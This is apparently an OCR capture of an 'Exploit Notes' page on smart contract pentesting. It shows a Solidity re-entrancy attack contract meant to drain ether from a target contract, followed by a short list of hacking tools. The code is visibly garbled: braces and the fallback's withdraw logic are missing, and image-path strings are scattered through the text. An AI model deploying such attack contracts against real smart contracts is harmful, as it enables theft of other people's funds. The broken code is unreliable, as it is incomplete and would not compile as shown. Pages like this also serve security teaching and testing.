Exploit Notes

Smart Contract Pentesting

Last modified: 2022-12-01

Blockchain Ethereum Web3

A smart contract is a program or a transaction protocol that is commonly used in decentralized applications.


  • Remix IDE

    An online tool that allow us to deploy a smart contract and runtransactions.

Re-entrancy Attack

It’s a common vulnerability involving withdraw and deposit in Solidity.
For example, create “Attack.sol”.

pragma solidity ^0.8.10;
import './Target.sol';

contract Attack {Target public target;
     constructor(address _targetAddress) {
         target = Target(_targetAddress);

     fallback() external payable {
         if (address(target).balance >= 1 ether) {
     function attack() external payable {
         require(msg.value >= 1 ether);
         target.deposit{value: 1 ether}();

     function getBalance() public view returns (uint) {
         returnaddress(this).balance;

After compiling, deploy it and run “attack” function to get balances bycompromising the target contract.

Tools by HDKS


Automatic webfuzzer.


Auto reconnaissance CLI.

HashCracker

Hash identifier.